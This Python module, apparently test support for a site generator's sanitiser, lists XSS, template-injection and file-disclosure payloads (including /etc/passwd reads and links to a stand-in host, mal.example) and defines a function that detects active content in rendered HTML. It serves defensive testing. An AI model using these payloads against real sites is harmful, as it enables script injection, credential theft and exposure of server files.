"""What a hostile author could type, and the detection of active content in a document."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator

from lxml.html import HtmlElement

PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "<ScRiPt src=//mal.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '\\"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    '\\" onmouseover=\\"alert(1)',
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)></style>",
    "<iframe src=https://mal.example></iframe>",
    "<object data=https://mal.example></object><embed src=//mal.example>",
    "<form action=https://mal.example><input name=a><button>x</button></form>",
    "<base href=https://mal.example/>",
    "<link rel=stylesheet href=https://mal.example/x.css>",
    "<meta http-equiv=refresh content='0; url=https://mal.example'>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href=data:text/html,x>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    '[x](https://a.example/\\"onmouseover=alert(1))',
    "[x](https://a.example 't\\\" onclick=\\\"alert(1)')",
    "[x](https://a.example){: onclick='alert(1)' }",
    "Un mot {: style='background:url(javascript:alert(1))' }",
    "{{ 1337 * 7331 }}",
    "{% for one in ''.__class__.__mro__ %}{{ one }}{% endfor %}",
    "<mj-raw><script>alert(1)</script></mj-raw>",
    "<mj-include path='/etc/passwd' />",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "<div style='behavior:url(x);expression(alert(1))'>x</div>",
    "<p onclick=alert(1)>x</p>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "[x](file:///etc/passwd)",
    "![x](file:///etc/passwd)",
    "<a rel=attachment href=file:///etc/passwd>x</a>",
    "<link rel=attachment href=file:///etc/passwd>",
    "<style>@import url(file:///etc/passwd)</style>",
)
TAGS = frozenset(
    {"iframe", "object", "embed", "base", "frame", "frameset", "applet", "math", "template"}
)
OURS = re.compile(r"/(theme|pagefind)/")


def active_content(root: HtmlElement) -> Iterator[str]:
    """Yield a description of each piece of active content in a document."""
    for element in root.iter("*"):
        tag = str(element.tag).lower()
        if tag in TAGS:
            yield f"<{tag}>"
        if tag == "script" and element.get("type") == "application/ld+json":
            json.loads(element.text)
        elif tag == "script" and not OURS.match(element.get("src", "")):
            yield "<script>"
        if tag == "form" and not element.get("action", "/").startswith("/"):
            yield "<form>"
        if tag == "meta" and element.get("http-equiv", "").lower() == "refresh":
            yield "<meta refresh>"
        for name, value in element.attrib.items():
            bare = re.sub(r"[\s\x00-\x20]", "", value).lower()
            if name.lower().startswith("on"):
                yield f"{tag} {name}"
            if re.match(r"(javascript|vbscript|data|file):", bare) and not bare.startswith(
                "data:image"
            ):
                yield f"{tag} {name}={bare[:30]}"
            if name == "style" and re.search(r"javascript:|expression\(|behavior:", bare):
                yield f"{tag} style"
            if name in {"src", "srcset"} and "mal.example" in bare:
                yield f"{tag} {name}={bare[:30]}"
